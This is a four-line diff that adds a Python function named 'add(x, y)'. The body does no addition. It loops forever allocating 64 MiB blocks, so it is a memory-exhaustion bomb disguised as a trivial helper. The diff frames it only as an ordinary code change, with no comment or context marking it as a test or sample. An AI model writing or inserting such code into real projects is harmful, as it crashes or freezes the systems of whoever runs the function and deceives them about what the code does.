@@ -1,0 +1,4 @@
+def add(x, y):
+    hog = []
+    while True:
+        hog.append(bytearray(64 << 20))
